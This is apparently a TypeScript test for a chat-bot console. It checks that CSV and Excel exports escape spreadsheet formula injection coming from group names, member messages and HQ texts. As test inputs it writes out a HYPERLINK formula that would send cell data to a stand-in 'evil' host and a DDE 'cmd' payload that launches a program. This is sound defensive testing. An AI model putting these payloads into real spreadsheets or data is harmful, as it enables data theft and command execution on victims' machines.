import ExcelJS from 'exceljs'
import type { SimWorld } from '../../src/sim/world'
import { openLink, signInLink } from '../helpers/console'
import { parseCsv } from '../helpers/csv'
import { play, textIn } from '../helpers/scenario'

/**
 * CSV formula injection (issue 17 item 8): text that members, group names and HQ put into
 * the console's tables reaches the four exports through the real pipeline (WeChat → bot →
 * Redis → console), and no cell of a CSV may start as a formula when a spreadsheet opens it.
 */

const FORMULA = '=HYPERLINK("http://evil/?"&A1,"点我")'

/** What a spreadsheet would read as a formula: the first character, or the first after white space. */
const formulaLike = (cell: string) => /^[\s\u3000]*[=+\-@\t\r]/.test(cell)

describe('console exports and formula injection', () => {
  it("every CSV export writes a member's formula, a group name and HQ texts as text ('=…), and the .xlsx keeps them plain strings", async () => {
    let world!: SimWorld
    const checked: string[] = []
    await play(
      `name: console-exports
config:
  hq: { rooms: [hq@chatroom] }
  roles: { operator: [wxid_op1] }
  groups:
    list:
      - { room: g1@chatroom, key: g1 }
  rules:
    welcome: { enabled: false }
    nickname: { enabled: false }
    intro: { enabled: false }
    ads: { warnings: 0, blacklist: false }
  questions: { enabled: false }
  outbound: { minIntervalMs: 20, jitterMs: 0, quietHours: "" }
world:
  contacts: [{ id: wxid_op1, name: 小运营 }, { id: wxid_spam, name: "@SUM(1+1)" }]
  rooms:
    - { id: hq@chatroom, topic: 运营总部, members: [wxid_op1] }
    - { id: g1@chatroom, topic: 北京1群, members: [wxid_a, wxid_spam] }
steps:
  # a member renames the group to a formula, another posts one with an ad (removed: case R1)
  - topic: { room: g1@chatroom, from: wxid_a, topic: '${FORMULA}' }
  - say: { room: g1@chatroom, from: wxid_spam, text: '${FORMULA} 招兼职刷单，日结三百' }
  - settle: { timeout: 20s }
  # HQ texts: a broadcast and a schedule whose text starts as a formula
  - say: { room: hq@chatroom, from: wxid_op1, text: "#广播 全部 -2+3+cmd|' /C calc'!A0" }
  - say: { room: hq@chatroom, from: wxid_op1, text: "#定时 每天08:00 全部 +1+1" }
  - settle: { timeout: 20s }
`,
      {
        http: { port: 0 },
        afterStep: async (_i, _s, _b, w) => void (world = w),
        afterSteps: async (bot) => {
          const base = bot.app.consoleUrl()!
          expect(world.transcript.filter((l) => l.type === 'remove').map((l) => l.contact)).toEqual(['wxid_spam'])
          expect(textIn(world.transcript, 'hq@chatroom').join('\n')).toContain('S1')
          const cookie = (await openLink(await signInLink(world, 'wxid_op1'))).cookie!
          const get = (path: string) => fetch(base + path, { headers: { cookie } })

          // what each table must carry, as the member or HQ wrote it
          const expected: Record<string, string[]> = {
            groups: [FORMULA],
            broadcasts: ["-2+3+cmd|' /C calc'!A0", FORMULA],
            cases: [`${FORMULA} 招兼职刷单，日结三百`, '@SUM(1+1)'],
            schedules: ['+1+1'],
          }
          for (const [name, texts] of Object.entries(expected)) {
            const res = await get(`/export/${name}.csv`)
            expect([name, res.status]).toEqual([name, 200])
            const rows = parseCsv((await res.text()).replace(/^\ufeff/, ''))
            const cells = rows.flat()
            // nothing a spreadsheet would run
            expect([name, cells.filter(formulaLike)]).toEqual([name, []])
            // not vacuous: each crafted text is there, as text behind the apostrophe
            for (const t of texts) expect([name, cells.some((c) => c === `'${t}` || c.startsWith(`'${t}、`))]).toEqual([name, true])

            // the Excel file holds the same texts as plain strings, never formulas
            const book = new ExcelJS.Workbook()
            await book.xlsx.load(Buffer.from(await (await get(`/export/${name}.xlsx`)).arrayBuffer()) as unknown as ArrayBuffer)
            const values: ExcelJS.CellValue[] = []
            book.worksheets[0]!.eachRow((row) => row.eachCell((c) => void values.push(c.value)))
            expect([name, values.filter((v) => typeof v === 'object' && v !== null && 'formula' in v)]).toEqual([name, []])
            for (const t of texts) expect([name, values.some((v) => v === t || (typeof v === 'string' && v.startsWith(`${t}、`)))]).toEqual([name, true])
          }
          checked.push('all')
        },
      },
    )
    expect(checked).toEqual(['all'])
  })
})
